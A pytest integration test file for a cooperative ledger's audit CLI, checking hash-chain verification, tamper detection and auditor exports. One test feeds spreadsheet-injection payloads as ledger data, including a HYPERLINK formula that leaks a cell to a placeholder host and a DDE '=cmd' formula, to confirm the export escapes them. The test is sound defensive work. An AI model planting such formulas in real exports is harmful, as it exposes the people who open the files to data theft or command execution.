"""`coop audit ...` end to end on real stores, and the exports an auditor opens."""

from __future__ import annotations

import csv
import errno
import io
import json
import subprocess
import sys
from collections.abc import Iterator
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from beancount import loader
from beancount.core.account import is_valid as is_valid_account
from beancount.core.data import Open, Transaction
from sqlalchemy import text
from typer.testing import CliRunner

from gateway.cli import app as cli
from gateway.runtime import Runtime
from services.audit import exports
from services.audit.exports import beancount_account, export_beancount
from services.common.errors import ValidationError
from services.common.settings import Settings, get_settings
from services.ledger.domain import AccountType, Posting, Side
from services.ledger.domain.accounts import check_account_code
from tests.integration.test_audit_chain import events_sql, post, tamper

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def cli_env(settings: Settings, monkeypatch: pytest.MonkeyPatch) -> Iterator[Settings]:
    monkeypatch.setenv("COOP_DATABASE_URL", settings.database_url)
    monkeypatch.setenv("COOP_DATABASE_SCHEMA", settings.database_schema)
    get_settings.cache_clear()
    yield settings
    get_settings.cache_clear()


def _populate(settings: Settings) -> None:
    runtime = Runtime(settings)
    try:
        post(runtime, 10)
        runtime.ledger.post_entry(
            key="odd-description",
            actor="person:test",
            effective_date=date(2025, 2, 3),
            description='Quote " and back\\slash\nand a new line',
            postings=[Posting("1010", Side.DEBIT, 5), Posting("4400", Side.CREDIT, 5)],
        )
        runtime.projector.run_until_caught_up()
    finally:
        runtime.close_sync()


def test_verify_head_publish_replay_and_export(cli_env: Settings, tmp_path: Path) -> None:
    runner = CliRunner()
    _populate(cli_env)

    verified = runner.invoke(cli, ["audit", "verify"])
    assert verified.exit_code == 0, verified.output
    assert "OK:" in verified.output

    published = runner.invoke(cli, ["audit", "head", "--publish"])
    assert published.exit_code == 0, published.output
    held = published.output.strip().splitlines()[-1]
    position, digest = held.split(":")
    assert int(position) > 0
    assert len(digest) == 64
    assert runner.invoke(cli, ["audit", "verify", "--expect", held]).exit_code == 0
    assert runner.invoke(cli, ["audit", "verify", "--from-head"]).exit_code == 0
    shown = runner.invoke(cli, ["audit", "head"])
    assert shown.exit_code == 0
    shown_head = shown.output.strip().splitlines()[-1]
    # Its standard output is the head alone (the progress goes to stderr), so that
    # `H=$(coop audit head)` holds what `--expect` takes.
    assert shown.stdout == f"{shown_head}\n"
    assert int(shown_head.split(":")[0]) > int(position)  # publishing is itself an event

    replayed = runner.invoke(cli, ["audit", "replay"])
    assert replayed.exit_code == 0, replayed.output
    assert "no difference" in replayed.output

    out = tmp_path / "export"
    exported = runner.invoke(cli, ["audit", "export", str(out), "--as-of", "2025-12-31"])
    assert exported.exit_code == 0, exported.output

    # The auditor's script recomputes the chain from the export alone.
    script = subprocess.run(
        [sys.executable, str(ROOT / "docs" / "verify_chain.py"), str(out / "events.jsonl")],
        capture_output=True,
        text=True,
        check=False,
    )
    assert script.returncode == 0, script.stdout + script.stderr
    assert f"head {held}" not in script.stdout  # the export goes beyond the published head
    lines = (out / "events.jsonl").read_text().splitlines()
    last = json.loads(lines[-1])
    assert script.stdout.strip().endswith(f"{last['position']}:{last['hash']}")

    # Beancount accepts the journal and agrees with the ledger.
    entries, errors, _options = loader.load_file(str(out / "journal.beancount"))
    assert errors == []
    transactions = [e for e in entries if isinstance(e, Transaction)]
    assert len(transactions) == 11
    cash = sum(
        Decimal(str(p.units.number))
        for t in transactions
        for p in t.postings
        if p.account == "Assets:1000" and p.units is not None
    )
    assert cash == Decimal(sum(100 + i for i in range(10))) / 100
    odd = next(t for t in transactions if t.postings[0].account == "Assets:1010")
    assert odd.narration == 'Quote " and back\\slash and a new line'

    with (out / "journal.csv").open(newline="") as f:
        journal = list(csv.DictReader(f))
    assert len(journal) == 22
    with (out / "trial-balance-2025-12-31.csv").open(newline="") as f:
        trial = list(csv.DictReader(f))
    total = trial[-1]
    assert total["account"] == "TOTAL"
    assert total["debit"] == total["credit"] == "10.50"  # 10.45 cash + 0.05 bank

    # A flipped byte makes verify fail with the position, and the script too.
    victim = json.loads(lines[15])["position"]
    table, column = events_sql(cli_env)
    runtime = Runtime(cli_env)
    try:
        with runtime.sync_engine.begin() as conn:
            conn.execute(
                text(f"UPDATE {table} SET topic = topic || 'x' WHERE {column} = :p"), {"p": victim}
            )
    finally:
        runtime.close_sync()
    failed = runner.invoke(cli, ["audit", "verify"])
    assert failed.exit_code == 1
    assert f"FAILED at position {victim}" in failed.output


def _missing_store(settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Point the CLI at an address that holds no store; returns a SQLite file path that
    must stay absent (unused on PostgreSQL)."""
    missing = tmp_path / "typo" / "nothing.db"
    if settings.is_postgres:
        monkeypatch.setenv("COOP_DATABASE_URL", settings.database_url)
        monkeypatch.setenv("COOP_DATABASE_SCHEMA", f"{settings.database_schema}_typo")
    else:
        monkeypatch.setenv("COOP_DATABASE_URL", f"sqlite:///{missing}")
        monkeypatch.setenv("COOP_DATABASE_SCHEMA", "")
    get_settings.cache_clear()
    return missing


def _schemas_like(settings: Settings, pattern: str) -> set[str]:
    import psycopg

    from tests.conftest import postgres_url

    with psycopg.connect(postgres_url()) as conn:
        rows = conn.execute(
            "SELECT nspname FROM pg_namespace WHERE nspname LIKE %s", (pattern,)
        ).fetchall()
    return {str(r[0]) for r in rows}


@pytest.mark.parametrize(
    "command",
    [["audit", "head"], ["audit", "verify"], ["audit", "replay"], ["audit", "export", "EXPORT"]],
)
def test_audit_commands_refuse_an_address_that_holds_no_store(
    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: list[str]
) -> None:
    missing = _missing_store(settings, tmp_path, monkeypatch)
    export_dir = tmp_path / "export"
    args = [str(export_dir) if a == "EXPORT" else a for a in command]
    try:
        result = CliRunner().invoke(cli, args)
    finally:
        get_settings.cache_clear()
    assert result.exit_code == 2, result.output
    assert isinstance(result.exception, SystemExit)  # no traceback
    [line] = result.output.strip().splitlines()
    assert line.startswith("No store at ")
    assert "coop db init" in line
    assert not missing.exists()
    assert not missing.parent.exists()
    assert not export_dir.exists()
    if settings.is_postgres:
        assert _schemas_like(settings, f"{settings.database_schema}_typo") == set()


def test_an_empty_schema_or_file_is_no_store(
    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An existing but empty schema (or an empty SQLite file) is not a store either."""
    if settings.is_postgres:
        monkeypatch.setenv("COOP_DATABASE_URL", settings.database_url)
        monkeypatch.setenv("COOP_DATABASE_SCHEMA", settings.database_schema)  # made, empty
    else:
        empty = tmp_path / "empty.db"
        empty.write_bytes(b"")
        monkeypatch.setenv("COOP_DATABASE_URL", f"sqlite:///{empty}")
    get_settings.cache_clear()
    try:
        result = CliRunner().invoke(cli, ["audit", "head"])
    finally:
        get_settings.cache_clear()
    assert result.exit_code == 2, result.output
    assert result.output.startswith("No store at ")
    if not settings.is_postgres:
        assert (tmp_path / "empty.db").read_bytes() == b""


def _open(runtime: Runtime, code: str, name: str) -> None:
    runtime.ledger.open_account(
        key=f"open-{code}",
        actor="person:test",
        code=code,
        name=name,
        account_type=AccountType.REVENUE,
    )


def test_export_keeps_codes_apart_that_differ_by_a_dot_or_a_dash(
    cli_env: Settings, tmp_path: Path
) -> None:
    runtime = Runtime(cli_env)
    try:
        _open(runtime, "4100.1", "Dotted")
        _open(runtime, "4100-1", "Dashed")
        for n, code in enumerate(("4100.1", "4100-1")):
            runtime.ledger.post_entry(
                key=f"sub-{n}",
                actor="person:test",
                effective_date=date(2025, 3, 1),
                description=f"sale on {code}",
                postings=[
                    Posting("1000", Side.DEBIT, 100 + n),
                    Posting(code, Side.CREDIT, 100 + n),
                ],
            )
        runtime.projector.run_until_caught_up()
    finally:
        runtime.close_sync()
    out = tmp_path / "export"
    result = CliRunner().invoke(cli, ["audit", "export", str(out), "--as-of", "2025-12-31"])
    assert result.exit_code == 0, result.output
    entries, errors, _options = loader.load_file(str(out / "journal.beancount"))
    assert errors == []
    opened = {e.meta["code"]: e.account for e in entries if isinstance(e, Open)}
    assert opened["4100.1"] != opened["4100-1"]
    amounts = {
        p.account: p.units.number
        for e in entries
        if isinstance(e, Transaction)
        for p in e.postings
        if p.units is not None and p.account.startswith("Income:4100")
    }
    assert amounts == {opened["4100.1"]: Decimal("-1.00"), opened["4100-1"]: Decimal("-1.01")}
    assert sorted(p.name for p in out.iterdir()) == [
        "events.jsonl",
        "journal.beancount",
        "journal.csv",
        "manifest.json",
        "trial-balance-2025-12-31.csv",
    ]


def test_beancount_names_are_one_to_one_and_valid_for_every_accepted_code() -> None:
    """Every code of up to five characters over digits, capitals, '.' and '-' that the
    ledger accepts gets its own valid Beancount name."""
    alphabet = "09AZ.-"
    codes = [""]
    accepted: list[str] = []
    for _ in range(5):
        codes = [c + x for c in codes for x in alphabet]
        for code in codes:
            try:
                check_account_code(code, field="code", max_length=16)
            except ValidationError:
                continue
            accepted.append(code)
    assert {"0.-", "0-.", "0..", "0--", "A.", "A-"} <= set(accepted)
    names = {beancount_account(code, AccountType.REVENUE) for code in accepted}
    assert len(names) == len(accepted)
    assert all(is_valid_account(name) for name in names)


def test_a_failed_export_leaves_the_directory_as_it_was(
    cli_env: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _populate(cli_env)
    out = tmp_path / "export"
    earlier = CliRunner().invoke(cli, ["audit", "export", str(out), "--as-of", "2025-12-31"])
    assert earlier.exit_code == 0, earlier.output
    before = {p.name: p.read_bytes() for p in out.iterdir()}

    def disk_full(*_args: object, **_kwargs: object) -> int:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(exports, "export_journal_csv", disk_full)
    result = CliRunner().invoke(cli, ["audit", "export", str(out)])
    assert result.exit_code == 1, result.output
    assert isinstance(result.exception, SystemExit)
    assert "No space left on device" in result.output
    # Nothing new, nothing half-written, the earlier files untouched, no staging left.
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


def test_text_cells_cannot_become_spreadsheet_formulas(cli_env: Settings, tmp_path: Path) -> None:
    runtime = Runtime(cli_env)
    descriptions = [
        '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "'quoted",
        "plain",
    ]
    try:
        _open(runtime, "4900", "=cmd|' /C calc'!A0")
        for n, description in enumerate(descriptions):
            runtime.ledger.post_entry(
                key=f"formula-{n}",
                actor="person:test",
                effective_date=date(2025, 4, 1),
                description=description,
                postings=[Posting("1000", Side.DEBIT, 250), Posting("4900", Side.CREDIT, 250)],
            )
        runtime.projector.run_until_caught_up()
    finally:
        runtime.close_sync()
    out = tmp_path / "export"
    result = CliRunner().invoke(cli, ["audit", "export", str(out), "--as-of", "2025-12-31"])
    assert result.exit_code == 0, result.output
    with (out / "journal.csv").open(newline="") as f:
        journal = list(csv.DictReader(f))
    shown = [row["description"] for row in journal if row["line_no"] == "1"]
    assert shown == [
        '\'=HYPERLINK("http://example.invalid/?x="&A1,"click")',
        "'+1+1",
        "'-2+3",
        "'@SUM(A1:A9)",
        "''quoted",
        "plain",
    ]
    # Amounts stay numbers.
    assert {row["debit"] for row in journal} == {"2.50", "0.00"}
    with (out / "trial-balance-2025-12-31.csv").open(newline="") as f:
        trial = {row["account"]: row for row in csv.DictReader(f)}
    assert trial["4900"]["name"] == "'=cmd|' /C calc'!A0"
    assert trial["4900"]["credit"] == "15.00"
    assert trial["TOTAL"]["debit"] == trial["TOTAL"]["credit"] == "15.00"
    # The ledger trims a description; a tab or CR that gets through is neutralised.
    assert exports.spreadsheet_text("\tx") == "'\tx"
    assert exports.spreadsheet_text("\rx") == "'\rx"
    assert exports.spreadsheet_text(None) == ""


def test_the_journal_files_stop_where_the_trial_balance_does(
    cli_env: Settings, tmp_path: Path
) -> None:
    # An accountant closing 2025 found journal.csv and journal.beancount holding 2026
    # entries beside a trial balance as of 31 December: the files disagreed.
    runtime = Runtime(cli_env)
    try:
        sale = runtime.ledger.post_entry(
            key="dec-sale",
            actor="person:test",
            effective_date=date(2025, 12, 30),
            description="December sale",
            postings=[Posting("1000", Side.DEBIT, 1_000), Posting("4100", Side.CREDIT, 1_000)],
        ).result
        runtime.ledger.post_entry(
            key="jan-sale",
            actor="person:test",
            effective_date=date(2026, 1, 5),
            description="January sale",
            postings=[Posting("1000", Side.DEBIT, 700), Posting("4100", Side.CREDIT, 700)],
        )
        runtime.ledger.reverse_entry(
            key="dec-sale-reversed",
            actor="person:test",
            entry_id=sale.id,
            effective_date=date(2026, 1, 10),
            description="Rung twice",
        )
        runtime.projector.run_until_caught_up()
    finally:
        runtime.close_sync()

    out = tmp_path / "close-2025"
    exported = CliRunner().invoke(cli, ["audit", "export", str(out), "--as-of", "2025-12-31"])
    assert exported.exit_code == 0, exported.output
    with (out / "journal.csv").open(newline="") as f:
        journal = list(csv.DictReader(f))
    assert {row["description"] for row in journal} == {"December sale"}
    assert {row["reversed_by_entry_id"] for row in journal} == {""}  # reversed in 2026
    entries, errors, _options = loader.load_file(str(out / "journal.beancount"))
    assert errors == []
    assert [t.narration for t in entries if isinstance(t, Transaction)] == ["December sale"]
    with (out / "trial-balance-2025-12-31.csv").open(newline="") as f:
        trial = list(csv.DictReader(f))
    debits = sum(Decimal(row["debit"]) for row in journal)
    assert trial[-1]["debit"] == trial[-1]["credit"] == f"{debits:.2f}" == "10.00"

    # Without --as-of the files run to today: every entry, the reversal shown.
    everything = tmp_path / "all"
    assert CliRunner().invoke(cli, ["audit", "export", str(everything)]).exit_code == 0
    with (everything / "journal.csv").open(newline="") as f:
        journal = list(csv.DictReader(f))
    assert len({row["entry_id"] for row in journal}) == 3
    reversed_rows = [row for row in journal if row["reversed_by_entry_id"]]
    assert {row["entry_id"] for row in reversed_rows} == {str(sale.id)}


def _export(out: Path, *options: str) -> Any:
    return CliRunner().invoke(cli, ["audit", "export", str(out), *options])


def _a_late_entry(settings: Settings) -> Runtime:
    """The populated store and an entry saved after it with nothing projecting it (the
    projector process down); the runtime it was saved with, for the caller to close."""
    _populate(settings)
    runtime = Runtime(settings)
    runtime.ledger.post_entry(
        key="late",
        actor="person:test",
        effective_date=date(2025, 6, 1),
        description="Saved while nothing projected",
        postings=[Posting("1010", Side.DEBIT, 100_000), Posting("4400", Side.CREDIT, 100_000)],
    )
    return runtime


def test_an_export_runs_to_the_log_s_head_though_the_projector_was_down(
    cli_env: Settings, tmp_path: Path
) -> None:
    # An entry saved while the projector process was down: the export left it out of
    # every file (the chain and the journal stopped short) and said "Chain verified".
    runtime = _a_late_entry(cli_env)
    try:
        log_head = runtime.ledger.recorder.max_notification_id() or 0
        assert runtime.projector.status()[0].lag > 0
    finally:
        runtime.close_sync()
    exported = _export(tmp_path / "export", "--as-of", "2025-12-31")
    assert exported.exit_code == 0, exported.output
    manifest = json.loads((tmp_path / "export" / "manifest.json").read_text())
    assert int(manifest["head"].split(":")[0]) >= log_head
    journal = (tmp_path / "export" / "journal.csv").read_text()
    assert "Saved while nothing projected" in journal
    assert (
        "Saved while nothing projected" in (tmp_path / "export" / "journal.beancount").read_text()
    )


def test_an_export_is_written_though_the_log_holds_an_event_the_projectors_cannot_take(
    cli_env: Settings, tmp_path: Path
) -> None:
    # Catching up first must not cost the export itself: a damaged event the
    # projector stopped on made it die with a traceback and nothing written.
    runtime = _a_late_entry(cli_env)
    try:
        late_position = runtime.ledger.recorder.max_notification_id() or 0
        table, position = events_sql(cli_env)
        with runtime.sync_engine.connect() as conn:
            damaged = conn.execute(
                text(f"SELECT max({position}) FROM {table} WHERE topic LIKE '%JournalEntry%'")
            ).scalar_one()
        assert damaged <= late_position  # the late entry's own event
        tamper(
            runtime,
            f"UPDATE {table} SET state = :s WHERE {position} = :p",
            s=b"\x00not json",
            p=damaged,
        )
    finally:
        runtime.close_sync()
    exported = _export(tmp_path / "export", "--as-of", "2025-12-31")
    assert "Could not chain the log to its head" in exported.output
    # Written, but not passing for the whole store: exit 1, and the manifest says so.
    assert exported.exit_code == 1, exported.output
    assert "INCOMPLETE" in exported.output
    manifest = json.loads((tmp_path / "export" / "manifest.json").read_text())
    assert int(manifest["head"].split(":")[0]) < damaged <= manifest["log_head"]
    assert "projectors stopped" in manifest["not_chained"]
    assert "Saved while nothing projected" not in (tmp_path / "export" / "journal.csv").read_text()


def test_an_export_verifies_the_chain_it_writes_and_says_where_it_fails(
    cli_env: Settings, tmp_path: Path
) -> None:
    # The auditor exported a store whose payment entry had been changed: exit 0, no
    # word, and events.jsonl disagreeing with journal.csv.
    _populate(cli_env)
    clean = _export(tmp_path / "clean", "--as-of", "2025-12-31")
    assert clean.exit_code == 0, clean.output
    manifest = json.loads((tmp_path / "clean" / "manifest.json").read_text())
    lines = (tmp_path / "clean" / "events.jsonl").read_text().splitlines()
    last = json.loads(lines[-1])
    assert manifest["exported_by"] == "coop audit export"
    assert manifest["as_of"] == "2025-12-31"
    assert manifest["head"] == f"{last['position']}:{last['hash']}"
    assert manifest["chain_check"] == {
        "ok": True,
        "events_checked": len(lines),
        "first_bad_position": None,
        "reason": None,
    }
    assert f"Chain verified: {len(lines)} events; head {manifest['head']}" in clean.output

    table, column = events_sql(cli_env)
    runtime = Runtime(cli_env)
    try:
        with runtime.sync_engine.begin() as conn:
            position, state = conn.execute(
                text(
                    f"SELECT {column}, state FROM {table} WHERE topic LIKE "
                    f"'%JournalEntry.Posted' ORDER BY {column} LIMIT 1 OFFSET 3"
                )
            ).one()
            conn.execute(
                text(f"UPDATE {table} SET state = :s WHERE {column} = :p"),
                {"s": bytes(state).replace(b'"sale 3"', b'"sale 9"'), "p": position},
            )
    finally:
        runtime.close_sync()
    out = tmp_path / "tampered"
    broken = _export(out)
    assert broken.exit_code == 1, broken.output
    assert isinstance(broken.exception, SystemExit)
    assert f"FAILED: the exported chain fails at position {position}: the event's stored " in (
        broken.output
    )
    # Still written (the store's evidence as it is), and the manifest says it fails.
    assert {p.name for p in out.iterdir()} == {
        "events.jsonl",
        "journal.beancount",
        "journal.csv",
        f"trial-balance-{datetime.now(cli_env.zone).date()}.csv",
        "manifest.json",
    }
    check = json.loads((out / "manifest.json").read_text())["chain_check"]
    assert check["ok"] is False
    assert check["first_bad_position"] == position
    script = subprocess.run(
        [sys.executable, str(ROOT / "docs" / "verify_chain.py"), str(out / "events.jsonl")],
        capture_output=True,
        text=True,
        check=False,
    )
    assert f"MISMATCH at position {position}" in script.stdout + script.stderr


def test_an_export_checks_the_published_heads(cli_env: Settings, tmp_path: Path) -> None:
    _populate(cli_env)
    published = CliRunner().invoke(cli, ["audit", "head", "--publish"])
    assert published.exit_code == 0, published.output
    position = int(published.output.strip().splitlines()[-1].split(":")[0])
    runtime = Runtime(cli_env)
    try:
        with runtime.sync_engine.begin() as conn:
            conn.execute(text("UPDATE audit_published_heads SET hash = :h"), {"h": "0" * 64})
    finally:
        runtime.close_sync()
    result = _export(tmp_path / "out")
    assert result.exit_code == 1, result.output
    assert f"fails at position {position}: the chain does not pass through" in result.output


def test_an_export_refuses_a_future_day_and_a_directory_of_other_files(
    cli_env: Settings, tmp_path: Path
) -> None:
    _populate(cli_env)
    today = datetime.now(cli_env.zone).date()
    future = tmp_path / "future"
    refused = _export(future, "--as-of", str(today + timedelta(days=1)))
    assert refused.exit_code == 2, refused.output
    assert isinstance(refused.exception, SystemExit)
    [line] = refused.output.strip().splitlines()
    assert f"is after today ({today} in {cli_env.timezone})" in line
    assert not future.exists()
    assert _export(tmp_path / "today", "--as-of", str(today)).exit_code == 0

    working_papers = tmp_path / "papers"
    working_papers.mkdir()
    (working_papers / "notes.txt").write_text("mine\n")
    refused = _export(working_papers)
    assert refused.exit_code == 2, refused.output
    assert "holds no earlier export" in refused.output
    assert [p.name for p in working_papers.iterdir()] == ["notes.txt"]


def test_an_export_into_an_earlier_export_replaces_all_of_its_files(
    cli_env: Settings, tmp_path: Path
) -> None:
    # An export as of 2027 into the 2025 export's directory left the 2025 trial
    # balance beside the new files.
    _populate(cli_env)
    out = tmp_path / "export"
    assert _export(out, "--as-of", "2025-12-31").exit_code == 0
    today = datetime.now(cli_env.zone).date()
    again = _export(out)
    assert again.exit_code == 0, again.output
    assert {p.name for p in out.iterdir()} == {
        "events.jsonl",
        "journal.beancount",
        "journal.csv",
        f"trial-balance-{today}.csv",
        "manifest.json",
    }
    assert json.loads((out / "manifest.json").read_text())["as_of"] == str(today)
    # A file that no export writes, beside an earlier export: refused, left as it was.
    (out / "notes.txt").write_text("mine\n")
    refused = _export(out, "--as-of", "2025-12-31")
    assert refused.exit_code == 2, refused.output
    assert "holds notes.txt beside an earlier export" in refused.output
    assert (out / f"trial-balance-{today}.csv").exists()
    assert not (out / "trial-balance-2025-12-31.csv").exists()


def test_an_empty_journal_exports_the_same_file_on_any_server(runtime: Runtime) -> None:
    """Review dates #3: with no entry yet, the accounts were opened on the server's own
    calendar day (date.today()): the same store exported another file under another
    TZ. They open on the export's day now."""
    runtime.projector.run_until_caught_up()  # the chart, no entry
    out = io.StringIO()
    with runtime.sync_engine.connect() as conn:
        assert export_beancount(conn, out, date(2025, 6, 30)) == 0
    opened = [line for line in out.getvalue().splitlines() if " open " in line]
    assert opened
    assert all(line.startswith("2025-06-30 open ") for line in opened), opened[:3]
